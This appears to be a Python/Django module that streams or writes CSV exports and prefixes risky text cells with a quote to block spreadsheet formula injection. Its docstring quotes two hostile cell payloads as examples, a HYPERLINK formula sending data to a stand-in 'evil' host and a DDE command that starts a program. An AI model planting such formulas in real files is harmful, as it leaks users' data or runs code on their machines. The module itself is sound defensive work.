"""The one CSV writer of the platform: every CSV file, download or standard output goes through it.

People open exports in spreadsheets, and a spreadsheet runs a cell that starts with `=`, `+`, `-`
or `@` as a formula (CSV or formula injection: a title such as `=HYPERLINK("http://evil/?"&A1)`
would send data away, `=cmd|' /C calc'!A0` starts a program). Following OWASP's advice, a text
cell is written with a single quote `'` in front when

- it starts with one of `=`, `+`, `-`, `@`, a tab or a carriage return, or
- its first character after leading white space (spaces, tabs, line breaks, no-break spaces…) is
  one of `=`, `+`, `-`, `@` — some spreadsheets trim the space before they look for a formula.

Spreadsheets show the quote-prefixed cell as the text it was; other programs see the quote.
Numbers (int, float, Decimal) are written as numbers, so a negative amount stays a number; a
negative number held in a text cell does get the quote. Everything else is written as its
`str()`, `None` as an empty cell. The same rows give the same bytes whether they are streamed to
a browser (`csv_response`) or written to a file or standard output (`csv_write`).
"""

import csv
import io
from collections.abc import Iterable, Iterator
from decimal import Decimal
from pathlib import Path

from django.http import StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The cell as written: numbers as they are, text with a quote in front if it could run."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) or text.lstrip().startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_chunks(rows: Iterable[Iterable]) -> Iterator[str]:
    """The CSV text of `rows` (the header first), one chunk per row, every cell made safe."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
        yield buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()


def csv_write(rows: Iterable[Iterable], *, out: str, stdout) -> None:
    """Write the CSV of `rows` to the file `out`, or to `stdout` (a command's) when `out` is "-"."""
    if out == "-":
        for chunk in csv_chunks(rows):
            stdout.write(chunk, ending="")
        return
    with Path(out).open("w", encoding="utf-8", newline="") as handle:
        for chunk in csv_chunks(rows):
            handle.write(chunk)


def csv_response(rows: Iterable[Iterable], *, filename: str) -> StreamingHttpResponse:
    """A download of the CSV of `rows`, streamed row by row."""
    response = StreamingHttpResponse(csv_chunks(rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
